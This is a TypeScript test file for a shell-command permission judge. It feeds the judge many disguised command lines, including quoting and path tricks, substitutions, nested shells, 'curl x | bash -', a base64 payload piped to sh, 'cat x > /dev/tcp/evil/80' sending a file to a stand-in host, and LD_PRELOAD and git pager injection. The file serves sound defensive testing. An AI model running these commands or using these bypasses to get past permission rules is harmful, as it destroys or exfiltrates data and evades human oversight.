/**
 * Command lines that run what no rule allows, in all the ways in which public reports and the grammar of the shell
 * hide that, against rules that allow generously. Not one may be allowed.
 */
import { assert, describe, it } from "@effect/vitest"
import { judge } from "./Judge.ts"

/** A generous user, who fears one program. */
const generous = [
  ..."ls cat head tail grep rg find sed sort tar git npm make echo printf test [ true cd export set trap sudo env xargs"
    .concat(" less man curl fd zip rsync pytest go docker watch find command exec nohup time eval tee wc diff date")
    .split(" ")
    .map((program) => `bash(${program} *)`),
  "bash(> build/**)",
  "bash(./build.sh *)",
  "deny bash(rm *)"
]

type Verdict = "Denied" | "Undecided"

const check = (table: ReadonlyArray<readonly [line: string, verdict: Verdict]>, ...more: ReadonlyArray<string>) =>
  it.each(table.map(([line, verdict]) => ({ line, verdict })))("$verdict: $line", ({ line, verdict }) => {
    assert.strictEqual(judge([...generous, ...more], line)._tag, verdict)
  })

/** Then nothing but what is not literal, and what must be spelled out, stands in the way. */
const everything = ["bash(*)", "bash(PATH=*)"]

describe("the same program by another spelling", () => {
  check([
    ["rm x", "Denied"],
    ["\\rm x", "Denied"],
    ["r\\m x", "Denied"],
    ["'rm' x", "Denied"],
    ['"rm" x', "Denied"],
    ["r''m x", "Denied"],
    ['r"m" x', "Denied"],
    ["$'rm' x", "Denied"],
    ["$'\\162m' x", "Denied"],
    ["$'\\x72m' x", "Denied"],
    ['$"rm" x', "Undecided"],
    ["/bin/rm x", "Denied"],
    ["/usr/bin/rm x", "Denied"],
    ["/usr/bin/../bin/rm x", "Denied"],
    ["./rm x", "Denied"],
    ["RM x", "Denied"],
    ["rm.exe x", "Denied"],
    ["r\\\nm x", "Denied"],
    ["rm\tx", "Denied"],
    ["  rm x", "Denied"],
    ["!rm x", "Undecided"],
    ["! rm x", "Denied"]
  ])
})

describe("a name that only looks like one that is allowed", () => {
  check([
    ["/tmp/git status", "Undecided"],
    ["./git status", "Undecided"],
    ["/usr/bin/../../tmp/git status", "Undecided"],
    ["gіt status", "Undecided"],
    ["git\u00a0status", "Undecided"],
    ["git\u3000status", "Undecided"],
    ["git\u200b status", "Undecided"],
    ["git status\u202e", "Undecided"],
    ["git status\r", "Undecided"],
    ["git status\u0000; rm x", "Denied"],
    ["\ufeffgit status", "Undecided"],
    ["GIT status", "Undecided"],
    ["git\u0008\u0008\u0008rm x", "Undecided"],
    ["'git status'", "Undecided"],
    ["git-status", "Undecided"],
    ["cd /tmp/evil && ./build.sh", "Undecided"],
    ["pushd /tmp/evil; ./build.sh", "Undecided"],
    ["(cd /tmp; ./build.sh)", "Undecided"],
    ["env -C /tmp ./build.sh", "Undecided"],
    ["sudo --chdir=/tmp ./build.sh", "Undecided"],
    ["find /tmp -execdir ./build.sh {} \\;", "Undecided"]
  ])
})

describe("one command after another", () => {
  check(
    [
      ["ls; rm x", "Denied"],
      ["ls;rm x", "Denied"],
      ["ls && rm x", "Denied"],
      ["ls&&rm x", "Denied"],
      ["ls || rm x", "Denied"],
      ["ls | rm x", "Denied"],
      ["ls |& rm x", "Denied"],
      ["ls & rm x", "Denied"],
      ["ls\nrm x", "Denied"],
      ["ls # harmless\nrm x", "Denied"],
      ["ls \\\n; rm x", "Denied"],
      ["echo '#'; rm x", "Denied"],
      ["echo a#b; rm x", "Denied"],
      ["ls \\; rm x; rm y", "Denied"],
      ["(rm x)", "Denied"],
      ["{ rm x; }", "Denied"],
      ["if ls; then rm x; fi", "Denied"],
      ["if ls; then ls; elif rm x; then ls; fi", "Denied"],
      ["while rm x; do ls; done", "Denied"],
      ["until ls; do rm x; done", "Denied"],
      ["for f in a b; do rm x; done", "Denied"],
      ["for ((;;)); do rm x; done", "Denied"],
      ["case x in x) rm x;; esac", "Denied"],
      ["select x in a; do rm x; done", "Denied"],
      ["time rm x", "Denied"],
      ["time -p rm x", "Denied"],
      ["coproc rm x", "Denied"],
      ["coproc ls", "Undecided"],
      ["ls &&", "Undecided"],
      ["ls; )", "Undecided"],
      ["echo 'open", "Undecided"]
    ],
    ...everything
  )
})

describe("substitutions", () => {
  check(
    [
      ["echo $(rm x)", "Denied"],
      ["echo `rm x`", "Denied"],
      ['echo "$(rm x)"', "Denied"],
      ['echo "`rm x`"', "Denied"],
      ['echo "a `echo \\`rm x\\`` b"', "Denied"],
      ["echo ${x:-$(rm x)}", "Denied"],
      ['echo "${x:-`rm x`}"', "Denied"],
      ["echo ${x/a/$(rm x)}", "Denied"],
      ["echo ${x#$(rm x)}", "Denied"],
      ["echo ${x:$(rm x)}", "Denied"],
      ["echo ${a[$(rm x)]}", "Denied"],
      ["echo $((1 + $(rm x)))", "Denied"],
      ["echo $[ $(rm x) ]", "Denied"],
      ["echo $((a[$(rm x)]))", "Denied"],
      ["((a[$(rm x)]))", "Denied"],
      ["[[ -f $(rm x) ]]", "Denied"],
      ["[[ a == $(rm x) ]]", "Denied"],
      ["cat <(rm x)", "Denied"],
      ["ls > >(rm x)", "Denied"],
      ["cat <<EOF\n$(rm x)\nEOF", "Denied"],
      ["cat <<EOF\n`rm x`\nEOF", "Denied"],
      ["cat <<-EOF\n\t${x:-$(rm x)}\n\tEOF", "Denied"],
      ["cat <<EOF\nharmless\nEOF\nrm x", "Denied"],
      ["cat <<'EOF'\nharmless\nEOF\nrm x", "Denied"],
      ['cat <<< "$(rm x)"', "Denied"],
      ["ls > $(rm x)", "Denied"],
      ["x=$(rm x) ls", "Denied"],
      ["x=$(rm x)", "Denied"],
      ["x=(a $(rm x))", "Denied"],
      ["a[$(rm x)]=1", "Denied"],
      ["declare x=$(rm x)", "Denied"],
      ["for f in $(rm x); do ls; done", "Denied"],
      ["case $(rm x) in a) ls;; esac", "Denied"],
      ["case x in $(rm x)) ls;; esac", "Denied"],
      ["echo ${ rm x; }", "Denied"],
      ["echo ${| rm x; }", "Denied"],
      ["echo $(echo $(rm x))", "Denied"]
    ],
    ...everything
  )
})

describe("what is not literal", () => {
  check(
    [
      ["$x", "Undecided"],
      ["${x}m y", "Undecided"],
      ["r$u'm' x", "Undecided"],
      ["$(echo rm) x", "Undecided"],
      ["`echo rm` x", "Undecided"],
      ["x=rm; $x y", "Undecided"],
      ["{rm,x}", "Undecided"],
      ["{ls,-l}", "Undecided"],
      ["r{m,}", "Undecided"],
      ["/bin/r? x", "Undecided"],
      ["/b?n/rm x", "Undecided"],
      ["[r]m x", "Undecided"],
      ["~/bin/x", "Undecided"],
      ["ls$IFS-l", "Undecided"],
      ["rm${IFS}x", "Undecided"],
      ["git${IFS}push", "Undecided"],
      ["git $x", "Undecided"],
      ['git "$x"', "Undecided"],
      ["git {push,--force}", "Undecided"],
      ["tar *", "Undecided"],
      ["tar -*", "Undecided"],
      ["cat ${x@P}", "Undecided"],
      ["echo ${x@P}", "Undecided"],
      ["echo ${!x}", "Undecided"],
      ["echo ${PATH:=/tmp}", "Undecided"],
      ["echo $((x))", "Undecided"],
      ["((PATH=1)); ls", "Undecided"],
      ["[[ -v a[0] ]]; ls", "Undecided"],
      ["[[ -R a ]]; ls", "Undecided"],
      ["a+=1; ls", "Undecided"],
      ["a[0]=1; ls", "Undecided"],
      ["cat $(ls)", "Undecided"],
      ["cat $((1 + 1))", "Undecided"],
      ["ls $'a\\0b'", "Undecided"],
      ["ls <&x", "Undecided"],
      ["'' x", "Undecided"],
      ["[[ x -eq 1 ]]; ls", "Undecided"],
      ["test -v 'a[$(id)]'", "Undecided"],
      ["[ -v 'a[$(id)]' ]", "Undecided"],
      ["printf -v 'a[$(id)]' x", "Undecided"],
      ["ls > $x", "Undecided"],
      ["ls > ~/x", "Undecided"],
      ["ls {fd}> build/x", "Undecided"],
      ["ls >&$x", "Undecided"]
    ],
    ...everything
  )
})

describe("shells and interpreters", () => {
  check(
    [
      ["sh -c 'rm x'", "Denied"],
      ["bash -c 'rm x'", "Denied"],
      ["BASH -c 'rm x'", "Denied"],
      ["bash -ec 'rm x'", "Denied"],
      ["bash -e -c 'rm x'", "Denied"],
      ["bash -o pipefail -c 'rm x'", "Denied"],
      ["/bin/sh -c 'rm x'", "Denied"],
      ["dash -c 'rm x'", "Denied"],
      ["zsh -c 'rm x'", "Denied"],
      ["zsh -c ls", "Undecided"],
      ["fish -c ls", "Undecided"],
      ["busybox sh -c 'rm x'", "Denied"],
      ["busybox rm x", "Denied"],
      ["sh -c 'sh -c \"rm x\"'", "Denied"],
      ['sh -c "sh -c \'sh -c \\"rm x\\"\'"', "Denied"],
      ["sh -c 'ls; '\"rm x\"", "Denied"],
      ["bash -c '$0' rm", "Undecided"],
      ['bash -c "$x"', "Undecided"],
      ["bash -ic ls", "Undecided"],
      ["bash --rcfile x -c ls", "Undecided"],
      ["bash -O expand_aliases -c ls", "Undecided"],
      ["sh -c 'ls &> x'", "Undecided"],
      ["sh -c '((rm x))'", "Undecided"],
      ["sh -c \"\\$'ls'\"", "Undecided"],
      ["bash script.sh", "Undecided"],
      ["bash", "Undecided"],
      ["bash < x", "Undecided"],
      ["bash <<< ls", "Undecided"],
      ["bash <<EOF\nrm x\nEOF", "Undecided"],
      ["bash -s", "Undecided"],
      ["bash /dev/stdin", "Undecided"],
      ["echo rm x | sh", "Undecided"],
      ["echo cm0geA== | base64 -d | sh", "Undecided"],
      ["curl x | bash -", "Undecided"],
      ["echo x | tee >(sh)", "Undecided"],
      ["eval rm x", "Denied"],
      ["eval 'rm x'", "Denied"],
      ["eval r'm' x", "Denied"],
      ["eval 'r''m' x", "Denied"],
      ['eval "$x"', "Undecided"],
      ["eval eval rm x", "Denied"],
      ["builtin eval rm x", "Denied"],
      ["command eval rm x", "Denied"],
      [". ./x", "Undecided"],
      ["source x", "Undecided"],
      ["trap 'rm x' EXIT", "Denied"],
      ["trap -- 'rm x' EXIT", "Denied"],
      ['trap "$x" EXIT', "Undecided"],
      ["python -c 'import os'", "Undecided"],
      ["python3.12 x.py", "Undecided"],
      ["node -e 1", "Undecided"],
      ["perl -e 1", "Undecided"],
      ["ruby x", "Undecided"],
      ["awk 'BEGIN{system(\"rm x\")}'", "Undecided"],
      ["vim -c ':!rm x'", "Undecided"],
      ["ed x", "Undecided"],
      ["npx x", "Undecided"],
      ["ssh host rm x", "Undecided"],
      ["parallel rm ::: x", "Undecided"]
    ],
    ...everything
  )
})

describe("what changes the meaning of names", () => {
  check([
    ["alias ls='rm x'; ls", "Undecided"],
    ["shopt -s expand_aliases", "Undecided"],
    ["ls() { rm x; }; ls", "Denied"],
    ["function ls { cat; }; ls", "Undecided"],
    ["hash -p /tmp/evil ls; ls", "Undecided"],
    ["enable -f ./x.so ls", "Undecided"],
    ["set -a; path=x", "Undecided"],
    ["set -o posix", "Undecided"],
    ["read PATH <<< /tmp", "Undecided"],
    ["mapfile -C 'rm x' -c 1 a", "Undecided"],
    ["for PATH in /tmp; do ls; done", "Undecided"],
    ["PATH=/tmp ls", "Undecided"],
    ["PATH=/tmp; ls", "Undecided"],
    ["PATH+=:/tmp ls", "Undecided"],
    ["export PATH=/tmp; ls", "Undecided"],
    ["export 'PATH=/tmp'; ls", "Undecided"],
    ["declare -x PATH=/tmp; ls", "Undecided"],
    ["LD_PRELOAD=./x.so ls", "Undecided"],
    ["GIT_SSH_COMMAND='rm x' git fetch", "Undecided"],
    ["GIT_EXTERNAL_DIFF=x git diff", "Undecided"],
    ["PAGER='rm x' man ls", "Undecided"],
    ["IFS=x ls", "Undecided"],
    ["BASH_ENV=x ls", "Undecided"],
    ["LC_ALL=C; ls", "Undecided"],
    ["env LD_PRELOAD=x ls", "Undecided"],
    ["env -i PATH=/tmp ls", "Undecided"],
    ["sudo LD_PRELOAD=x ls", "Undecided"],
    ["NO_COLOR=1 LD_PRELOAD=x ls", "Undecided"],
    ["env 'BASH_FUNC_ls%%=() { rm x; }' ls", "Undecided"]
  ])
})

describe("builtins that do more than they say", () => {
  check(
    [
      "alias 'a=b'",
      "unalias a",
      "shopt -s expand_aliases",
      "enable -f ./x.so ls",
      "hash -p /tmp/evil ls",
      "bind -x x",
      "complete -C x y",
      "compgen -C x y",
      "compopt x",
      "fc -s",
      "history -r x",
      "getopts x PATH",
      "let x=y",
      "mapfile PATH",
      "readarray PATH",
      "read PATH",
      "unset PATH",
      "source x",
      ". x",
      "declare -n x",
      "export 'LD_PRELOAD=x'",
      'export "$x"',
      "set -a",
      "set -k",
      "jobs -x ls",
      "wait -p PATH",
      "export LD_PRELOAD=x",
      "export x=y",
      "export LC_ALL=x",
      "jobs; LD_PRELOAD=x"
    ].map((line) => [`${line}; ls`, "Undecided"]),
    ...everything
  )
})

describe("wrappers", () => {
  check([
    ["env rm x", "Denied"],
    ["env -i rm x", "Denied"],
    ["env -u A -- rm x", "Denied"],
    ["env A=1 rm x", "Denied"],
    ["env -S 'rm x'", "Undecided"],
    ["env --split-string='rm x'", "Undecided"],
    ["timeout 5 rm x", "Denied"],
    ["timeout -k 5 --signal=KILL 5 rm x", "Denied"],
    ["nice rm x", "Denied"],
    ["nice -n 5 rm x", "Denied"],
    ["nice -10 rm x", "Denied"],
    ["nohup rm x", "Denied"],
    ["setsid -f rm x", "Denied"],
    ["stdbuf -oL rm x", "Denied"],
    ["stdbuf -o L rm x", "Denied"],
    ["sudo rm x", "Denied"],
    ["sudo -u root rm x", "Denied"],
    ["sudo -s", "Undecided"],
    ["sudo -i ls", "Undecided"],
    ["doas rm x", "Denied"],
    ["doas ls", "Undecided"],
    ["command rm x", "Denied"],
    ["command -p rm x", "Denied"],
    ["builtin command rm x", "Denied"],
    ["exec rm x", "Denied"],
    ["exec -a ls rm x", "Denied"],
    ["\\time rm x", "Denied"],
    ["/usr/bin/time -o build/x ls", "Undecided"],
    ["./timeout 5 ls", "Undecided"],
    ["/tmp/env ls", "Undecided"],
    ["timeout 5 env nice sh -c 'rm x'", "Denied"],
    ["ls | xargs rm", "Denied"],
    ["ls | xargs -I {} rm {}", "Denied"],
    ["ls | xargs", "Undecided"],
    ["ls | xargs cat", "Undecided"],
    ["ls | xargs sh -c 'rm x'", "Denied"],
    ["xargs -a file ls", "Undecided"],
    ["find . -exec rm {} \\;", "Denied"],
    ["find . -exec rm {} +", "Denied"],
    ["find . -execdir rm {} ';'", "Denied"],
    ["find . -ok rm {} \\;", "Denied"],
    ["find . -name x -o -exec ls {} \\; -exec rm {} +", "Denied"],
    ["find . -exec sh -c 'rm x' \\;", "Denied"],
    ["find . -exec sh -c '{}' \\;", "Undecided"],
    ["find . -exec {} \\;", "Undecided"],
    ["find . -exec sh {} \\;", "Undecided"],
    ["find . -exec cat --x={} \\;", "Undecided"],
    ["find . -delete", "Undecided"],
    ["find . -fprintf build/x %p", "Undecided"],
    ["watch rm x", "Denied"],
    ["watch -n 1 'ls; rm x'", "Denied"],
    ["watch -x rm x", "Denied"],
    ["flock /tmp/l rm x", "Undecided"],
    ["strace rm x", "Undecided"],
    ["chroot / rm x", "Undecided"],
    ["timeout $x ls", "Undecided"]
  ])
})

describe("arguments that run programs or write files", () => {
  check(
    [
      ["git -c core.pager='rm x' log", "Undecided"],
      ["git -ccore.pager=x log", "Undecided"],
      ["git --config-env=core.pager=X log", "Undecided"],
      ["git --exec-path=/tmp status", "Undecided"],
      ["git -C /tmp/evil status", "Undecided"],
      ["git --git-dir=/tmp/evil status", "Undecided"],
      ["git -p log", "Undecided"],
      ["git config core.pager x", "Undecided"],
      ["git config alias.x '!rm x'", "Undecided"],
      ["git grep -O'rm x' a", "Undecided"],
      ["git grep --open-files-in-pager=x a", "Undecided"],
      ["git grep --open-f=x a", "Undecided"],
      ["git rebase -x 'rm x' HEAD", "Undecided"],
      ["git rebase --exec 'rm x' HEAD", "Undecided"],
      ["git bisect run rm x", "Undecided"],
      ["git submodule foreach 'rm x'", "Undecided"],
      ["git clone -u x y", "Undecided"],
      ["git clone --upload-pack=x y", "Undecided"],
      ["git clone 'ext::sh -c rm' y", "Undecided"],
      ["git fetch --upload-pack x y", "Undecided"],
      ["git difftool -x 'rm x'", "Undecided"],
      ["git diff --output=x", "Undecided"],
      ["git filter-branch --tree-filter 'rm x'", "Undecided"],
      ["git clone --template=/tmp/evil x", "Undecided"],
      ["tar --checkpoint=1 --checkpoint-action=exec=x -cf a b", "Undecided"],
      ["tar --checkpoint-act=exec=x -cf a b", "Undecided"],
      ["tar -I 'rm x' -cf a b", "Undecided"],
      ["tar cIf x a b", "Undecided"],
      ["tar --to-command=x -xf a", "Undecided"],
      ["tar --use-compress-program=x -xf a", "Undecided"],
      ["tar -xf host:a", "Undecided"],
      ["rg --pre x a", "Undecided"],
      ["rg --pre=x a", "Undecided"],
      ["rg --hostname-bin x a", "Undecided"],
      ["sort --compress-program=x a", "Undecided"],
      ["sort -o x a", "Undecided"],
      ["sort -uo x a", "Undecided"],
      ["sed -i s/a/b/ x", "Undecided"],
      ["sed '1e rm x' a", "Undecided"],
      ["sed s/a/b/e a", "Undecided"],
      ["sed 's/a/b/w x' a", "Undecided"],
      ["sed 'w x' a", "Undecided"],
      ["sed -f x a", "Undecided"],
      ["sed -n '1p;1e rm x' a", "Undecided"],
      ["sed -n '1p\ne rm x' a", "Undecided"],
      ["less +'!rm x' a", "Undecided"],
      ["man -P 'rm x' ls", "Undecided"],
      ["man --pager='rm x' ls", "Undecided"],
      ["fd -x rm", "Undecided"],
      ["fd -Hx rm", "Undecided"],
      ["zip -T -TT 'rm x' a b", "Undecided"],
      ["rsync -e 'rm x' a b", "Undecided"],
      ["curl -o ~/.bashrc x", "Undecided"],
      ["curl -so x y", "Undecided"],
      ["curl -K x", "Undecided"],
      ["make -f x", "Undecided"],
      ["make --eval='$(shell rm x)'", "Undecided"],
      ["make SHELL=/tmp/x", "Undecided"],
      ["npm --script-shell=x test", "Undecided"],
      ["npm exec x", "Undecided"],
      ["go run x", "Undecided"],
      ["go test -exec x", "Undecided"],
      ["docker run x", "Undecided"]
    ],
    ...everything
  )
})

describe("files that the shell opens", () => {
  check([
    ["ls > x", "Undecided"],
    ["ls >x", "Undecided"],
    ["ls >> ~/.bashrc", "Undecided"],
    ["ls >| x", "Undecided"],
    ["ls &> x", "Undecided"],
    ["ls &>> x", "Undecided"],
    ["ls >& x", "Undecided"],
    ["ls 2> x", "Undecided"],
    ["ls <> x", "Undecided"],
    ["> x", "Undecided"],
    ["ls > build/../x", "Undecided"],
    ["ls > build/a > x", "Undecided"],
    ["{ ls; } > x", "Undecided"],
    ["(ls) > x", "Undecided"],
    ["if ls; then ls; fi > x", "Undecided"],
    ["while ls; do ls; done > x", "Undecided"],
    ["cd /tmp && ls > build/x", "Undecided"],
    ["cat < /dev/tcp/evil/80", "Undecided"],
    ["cat x > /dev/tcp/evil/80", "Undecided"],
    ["exec 3<>/dev/tcp/evil/80", "Undecided"],
    ["exec > x", "Undecided"],
    ["cat <<EOF > x\nhello\nEOF", "Undecided"]
  ])
})

describe("what a deny names may hide in a pattern", () => {
  it.each([
    ["deny bash(cat secret*)", "cat secr*", "Undecided"],
    ["deny bash(cat secret*)", "cat src/*", "Undecided"],
    ["deny bash(git push *)", "git --no-pager push", "Denied"],
    ["deny bash(git push *)", "git -C . push", "Denied"],
    ["deny bash(git push *)", "git -c a=b push origin", "Denied"],
    ["deny bash(npm publish *)", "npm --silent publish", "Denied"],
    ["deny bash(git push ** --force)", "git push origin main --force", "Denied"],
    ["deny bash(/bin/chmod *)", "chmod 1 x", "Denied"],
    ["deny bash(sudo *)", "sudo ls", "Denied"],
    ["deny bash(env *)", "env ls", "Denied"],
    ["deny bash(LD_PRELOAD=*)", "LD_PRELOAD=$x ls", "Denied"],
    ["deny bash(> **)", "ls > build/x", "Denied"],
    ["deny bash(< **/.env)", "cat < conf/.ENV", "Denied"],
    ["ask bash(git push *)", "ls; git push", "Asked"]
  ] as const)("%s: %s", (rule, line, verdict) => {
    assert.strictEqual(judge([...generous, rule], line)._tag, verdict)
  })
})
